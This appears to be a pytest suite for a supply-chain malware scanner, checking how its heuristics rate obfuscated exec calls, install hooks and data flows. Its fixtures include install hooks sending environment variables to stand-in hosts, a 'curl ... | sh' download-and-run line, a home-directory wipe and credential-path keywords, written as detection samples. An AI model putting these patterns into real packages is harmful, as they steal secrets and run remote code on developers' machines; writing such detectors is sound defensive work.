"""Every heuristic fires on its positive samples and stays quiet on its benign ones."""

from __future__ import annotations

import pytest

from chainwarden.analyzers.heuristics import RULES, analyze_artifact
from chainwarden.analyzers.heuristics.common import Context, Signal, is_test_path, score
from chainwarden.analyzers.heuristics.javascript import analyze_javascript
from chainwarden.analyzers.heuristics.python_ast import analyze_python, fold
from chainwarden.analyzers.packages import PackageArtifact, PackageFile
from chainwarden.models import Ecosystem, Finding, Severity
from unit.analyzers.heuristic_samples import SAMPLES, Files


def artifact_from(files: Files, kind: str = "directory") -> PackageArtifact:
    package_files = tuple(
        PackageFile(path, len(body), body.encode() if isinstance(body, str) else body) for path, body in files.items()
    )
    ecosystem = Ecosystem.NPM if "package.json" in files or any(p.endswith(".js") for p in files) else Ecosystem.PYPI
    return PackageArtifact("sample", kind, ecosystem, "sample", "1.0.0", package_files)


def findings_for(files: Files) -> list[Finding]:
    return list(analyze_artifact(artifact_from(files)).findings)


def _cases(which: str) -> list[tuple[str, int]]:
    return [
        (rule_id, index) for rule_id in sorted(RULES) for index in range(len(SAMPLES.get(rule_id, {}).get(which, [])))
    ]


@pytest.mark.parametrize("rule_id", sorted(RULES))
def test_every_rule_has_positive_and_benign_samples(rule_id: str) -> None:
    assert rule_id in SAMPLES, f"heuristic {rule_id} has no samples"
    assert SAMPLES[rule_id]["positive"], f"heuristic {rule_id} has no positive sample"
    assert SAMPLES[rule_id]["benign"], f"heuristic {rule_id} has no benign sample"


def test_samples_name_only_known_rules() -> None:
    assert set(SAMPLES) <= set(RULES)


@pytest.mark.parametrize(("rule_id", "index"), _cases("positive"))
def test_positive_sample_is_detected(rule_id: str, index: int) -> None:
    found = findings_for(SAMPLES[rule_id]["positive"][index])
    matching = [f for f in found if f.rule_id == rule_id]
    assert matching, f"{rule_id} positive #{index} not detected; got {[f.rule_id for f in found]}"
    finding = matching[0]
    assert finding.location is not None and finding.location.line is not None
    assert any(e.startswith("why:") for e in finding.evidence)
    assert finding.evidence[0].startswith(f"{finding.location.path}:{finding.location.line}:")


@pytest.mark.parametrize(("rule_id", "index"), _cases("benign"))
def test_benign_sample_is_not_flagged(rule_id: str, index: int) -> None:
    found = findings_for(SAMPLES[rule_id]["benign"][index])
    assert not [f for f in found if f.rule_id == rule_id], f"{rule_id} benign #{index} flagged: {found}"


# -- scoring: capability vs threat, flows, contexts ---------------------------------------


def test_capability_alone_is_informational() -> None:
    found = findings_for({"x/c.py": "import requests\n\ndef f(u):\n    return requests.get(u)\n"})
    assert [(f.rule_id, f.severity) for f in found] == [("capability-network", Severity.INFO)]


def test_env_read_to_network_flow_is_critical_with_flow_evidence() -> None:
    found = findings_for(SAMPLES["malicious-env-exfiltration"]["positive"][0])
    env = next(f for f in found if f.rule_id == "malicious-env-exfiltration")
    assert env.severity is Severity.CRITICAL
    assert any(e.startswith("flow: the whole environment") for e in env.evidence)


def test_decode_exec_at_import_time_is_critical_but_high_at_runtime() -> None:
    at_import = findings_for({"x/__init__.py": "import base64\nexec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\n"})
    at_runtime = findings_for(
        {"x/mod.py": "import base64\n\ndef f():\n    exec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\n"}
    )
    assert next(f for f in at_import if f.rule_id == "malicious-decode-exec").severity is Severity.CRITICAL
    assert next(f for f in at_runtime if f.rule_id == "malicious-decode-exec").severity is Severity.HIGH


def test_payload_in_tests_is_weighed_down_not_skipped() -> None:
    code = "import base64\n\ndef f():\n    exec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\n"
    in_tests = findings_for({"tests/test_x.py": code})
    finding = next(f for f in in_tests if f.rule_id == "malicious-decode-exec")
    assert finding.severity is Severity.MEDIUM
    assert "context:test" in finding.tags


def test_npm_install_script_file_runs_in_install_context() -> None:
    files: Files = {
        "package.json": '{"name":"x","version":"1.0.0","scripts":{"postinstall":"node lib/setup.js"}}',
        "lib/setup.js": "eval(Buffer.from('MQ==', 'base64').toString());\n",
    }
    finding = next(f for f in findings_for(files) if f.rule_id == "malicious-decode-exec")
    assert finding.severity is Severity.CRITICAL
    assert "context:install" in finding.tags


def test_credential_string_alone_is_low_and_with_flow_critical() -> None:
    alone = findings_for(SAMPLES["malicious-credential-access"]["positive"][1])
    flow = findings_for(SAMPLES["malicious-credential-access"]["positive"][0])
    assert next(f for f in alone if f.rule_id == "malicious-credential-access").severity is Severity.LOW
    assert next(f for f in flow if f.rule_id == "malicious-credential-access").severity is Severity.CRITICAL


def test_setup_py_cmdclass_with_network_is_install_time_and_escalated() -> None:
    setup = (
        "import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        "class H(install):\n    def run(self):\n        requests.post('https://c.example.invalid', json=dict(os.environ))\n"
        "setup(name='x', cmdclass={'install': H})\n"
    )
    found = findings_for({"setup.py": setup})
    rules: dict[str, Severity] = {f.rule_id: f.severity for f in found}
    assert rules["capability-install-hook"] is Severity.LOW
    assert rules["malicious-env-exfiltration"] is Severity.CRITICAL


def test_score_groups_capabilities_into_one_summary_per_package() -> None:
    signals = [
        Signal("capability-network", f"m{i}.py", 1, "requests.get(u)", "network call", Context.RUNTIME)
        for i in range(8)
    ]
    found = score(signals)
    assert len(found) == 1
    assert found[0].title.endswith("(8 files)")


# -- parsers: folding, fallbacks, hostile input ---------------------------------------------


@pytest.mark.parametrize(
    ("expression", "expected"),
    [
        ("'sys' + 'tem'", "system"),
        ("''.join(['o', 's'])", "os"),
        ("''.join(chr(c) for c in [101, 120, 101, 99])", "exec"),
        ("'lave'[::-1]", "eval"),
        ("f'{\"ex\"}ec'", "exec"),
        ("name + 'x'", None),
    ],
)
def test_fold_constant_strings(expression: str, expected: str | None) -> None:
    import ast

    node = ast.parse(expression, mode="eval").body
    assert fold(node) == expected


def test_python2_source_falls_back_to_line_scan() -> None:
    source = "print 'hi'\nexec base64.b64decode('cHJpbnQoJ2luZXJ0Jyk=')\nURL = 'http://203.0.113.5/x'\n"
    rules = {s.rule_id for s in analyze_python("x/old.py", source, Context.RUNTIME)}
    assert {"malicious-decode-exec", "malicious-exfil-endpoint"} <= rules


def test_unparsable_javascript_uses_tokenizer() -> None:
    source = "class A { #a = b?.c; }\neval(atob('MQ=='));\nrequire('child_process');\n"
    signals, parsed = analyze_javascript("x.js", source, Context.RUNTIME)
    assert not parsed
    assert {"malicious-decode-exec", "capability-subprocess"} <= {s.rule_id for s in signals}


def test_obfuscator_io_string_array_rotation_is_high_on_its_own() -> None:
    rotation = SAMPLES["malicious-obfuscation"]["positive"][-3]["lib.js"]
    assert isinstance(rotation, str)
    without_require = rotation.replace("const _0xcp=require(a0(0x1a6));", "")
    found = findings_for({"lib.js": without_require})
    obfuscation = next(f for f in found if f.rule_id == "malicious-obfuscation")
    assert obfuscation.severity is Severity.HIGH


def test_a_downloader_called_before_it_is_defined_is_still_followed() -> None:
    # main() is read before download(): the file is read a second time with what was learnt
    found = findings_for(SAMPLES["malicious-download-exec"]["positive"][-1])
    assert any(f.rule_id == "malicious-download-exec" and f.severity.at_least(Severity.HIGH) for f in found)


def test_syntax_newer_than_the_parser_is_rewritten_and_parsed() -> None:
    # optional catch binding, optional chaining, nullish coalescing: ES2019-2020, beyond esprima's ES2017
    source = (
        "const https = require('https');\n"
        "function go() {\n"
        "  try { JSON.parse('{}'); } catch { return; }\n"
        "  const env = process?.env ?? {};\n"
        "  https.request({host: 'h.example.invalid'}).end(JSON.stringify(env));\n"
        "}\n"
    )
    signals, parsed = analyze_javascript("x.js", source, Context.INSTALL)
    assert parsed
    flows = [s for s in signals if s.rule_id == "malicious-env-exfiltration" and s.flow]
    assert flows and flows[0].line == 5


def test_deeply_nested_python_does_not_crash() -> None:
    source = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
    assert isinstance(analyze_python("x/deep.py", source, Context.RUNTIME), list)


def test_huge_minified_javascript_is_tokenized_quickly() -> None:
    line = "var a=1;" * 40_000
    signals, parsed = analyze_javascript("dist/bundle.js", line + "\n", Context.RUNTIME)
    assert not parsed
    assert signals == []


def test_binary_and_garbage_files_are_ignored() -> None:
    found = findings_for({"x/data.py": b"\xff\xfe\x00garbage\x00" * 100, "x/blob.js": b"\x00\x01\x02"})
    assert all(f.severity.rank <= Severity.LOW.rank for f in found)


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("tests/test_a.py", True),
        ("pkg/tests/helpers.py", True),
        ("docs/conf.py", True),
        ("lib/a.test.js", True),
        ("pkg/testing_utils.py", False),
        ("pkg/core.py", False),
    ],
)
def test_is_test_path(path: str, expected: bool) -> None:
    assert is_test_path(path) is expected


@pytest.mark.parametrize("accelerated", [True, False])
def test_keyword_prefilter_with_and_without_pyahocorasick(accelerated: bool) -> None:
    from chainwarden.analyzers.heuristics.common import KeywordSet

    keywords = KeywordSet((".ssh", "Webhook"), ignore_case=True)
    if not accelerated:
        keywords._automaton = None  # the pure-Python path used when pyahocorasick is missing
    assert keywords.search("open('~/.SSH/id_rsa')")
    assert keywords.search("api/WEBHOOK")
    assert not keywords.search("import requests")


def test_files_without_threat_keywords_still_report_capabilities() -> None:
    found = findings_for({"x/client.py": "import requests\n\nSESSION = requests.Session()\n"})
    assert [(f.rule_id, f.location.line if f.location else None) for f in found] == [("capability-network", 1)]


def test_destructive_write_on_a_remote_trigger_is_critical_and_reveals_the_hidden_path() -> None:
    found = findings_for(SAMPLES["malicious-destructive-write"]["positive"][0])
    wipe = next(f for f in found if f.rule_id == "malicious-destructive-write")
    assert wipe.severity is Severity.CRITICAL
    assert any("hidden by Buffer.from ('./')" in e and "remote trigger" in e for e in wipe.evidence)
    assert any(e.startswith("flow: network response → fs.writeFileSync()") for e in wipe.evidence)


def test_destructive_write_without_a_trigger_is_high() -> None:
    found = findings_for(
        {"x/wipe.py": "import os, shutil\n\ndef wipe():\n    shutil.rmtree(os.path.expanduser('~'))\n"}
    )
    assert [(f.rule_id, f.severity) for f in found if f.rule_id.startswith("malicious")] == [
        ("malicious-destructive-write", Severity.HIGH)
    ]


def test_credential_variable_sent_from_install_hook_is_critical() -> None:
    positives = SAMPLES["malicious-credential-access"]["positive"]
    hook = next(p for p in positives if "AWS_SECRET_ACCESS_KEY" in str(p.get("setup.py", "")))
    finding = next(f for f in findings_for(hook) if f.rule_id == "malicious-credential-access")
    assert finding.severity is Severity.CRITICAL
    assert any("credential variable $AWS_SECRET_ACCESS_KEY" in e for e in finding.evidence)
    cloud = next(p for p in positives if "x/flag.py" in p)
    assert max(f.severity.rank for f in findings_for(cloud)) >= Severity.HIGH.rank


def test_char_code_arithmetic_and_embedded_code_reach_high() -> None:
    samples = SAMPLES["malicious-obfuscation"]["positive"]
    char_codes = next(p for p in samples if "copyright.__str__" in str(p.get("setup.py", "")))
    assert max(f.severity.rank for f in findings_for(char_codes)) >= Severity.HIGH.rank
    assert fold(__import__("ast").parse("''.join(map(chr, [(7 << 4) - 1, 105, 0x70]))", mode="eval").body) == "oip"
    shell = next(p for p in SAMPLES["malicious-reverse-shell"]["positive"] if "setup.py" in p)
    found = [f for f in findings_for(shell) if f.rule_id == "malicious-reverse-shell"]
    assert found and found[0].severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "files",
    [
        {
            # debug reads its options from DEBUG_* variable names; binary installers send the platform (sentry-cli)
            "index.js": (
                "const https = require('https'); const os = require('os');\n"
                "exports.inspectOpts = Object.keys(process.env).filter(k => /^debug_/i.test(k));\n"
                "https.get('https://dl.example.invalid/cli-' + os.platform() + '-' + os.arch());\n"
            ),
        },
        {
            # a bundler's ignore list names .npmrc; the same bundle fetches things (vite, yarn)
            "dist/chunk.js": (
                "const https = require('https');\n"
                "const IGNORED = ['.git', '.npmrc', '.yarnrc', 'node_modules'];\n"
                "https.get('https://registry.example.invalid/x', r => r.resume());\n"
                "module.exports = IGNORED;\n"
            ),
        },
    ],
)
def test_popular_package_idioms_stay_below_high(files: Files) -> None:
    assert all(f.severity.rank < Severity.HIGH.rank for f in findings_for(files)), findings_for(files)


def test_shell_script_sending_a_key_is_critical() -> None:
    hook = next(p for p in SAMPLES["malicious-credential-access"]["positive"] if "run.sh" in p)
    finding = next(f for f in findings_for(hook) if f.rule_id == "malicious-credential-access")
    assert finding.severity is Severity.CRITICAL


def test_install_hook_reaches_payload_through_local_files() -> None:
    files: Files = {
        "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup/i.js"}}',
        "setup/i.js": "require('../lib/boot');\n",
        "lib/boot.js": "module.exports = require('./run.js');\n",
        "lib/run.js": "const cp = require('child_process');\ncp.exec('curl -s https://p.example.invalid/x | sh');\n",
        "setup.py": "import helpers\nfrom setuptools import setup\nsetup(name='x')\n",
        "helpers.py": "import subprocess\nsubprocess.run(['id'])\n",
    }
    found = findings_for(files)
    run = next(f for f in found if f.rule_id == "malicious-download-exec")
    assert run.location is not None and run.location.path == "lib/run.js"
    assert "context:install" in run.tags and run.severity is Severity.CRITICAL
    helper = next(f for f in found if f.location is not None and f.location.path == "helpers.py")
    assert "context:install" in helper.tags


def test_npm_token_sent_from_install_script_is_critical_but_sdk_key_at_runtime_is_not() -> None:
    hook = next(p for p in SAMPLES["malicious-credential-access"]["positive"] if "i.js" in p)
    finding = next(f for f in findings_for(hook) if f.rule_id == "malicious-credential-access")
    assert finding.severity is Severity.CRITICAL
    sdk: Files = {
        "lib/client.js": "const https = require('https');\nhttps.get({headers: {auth: process.env.X_API_KEY}});\n"
    }
    assert not [f for f in findings_for(sdk) if f.rule_id == "malicious-credential-access"]
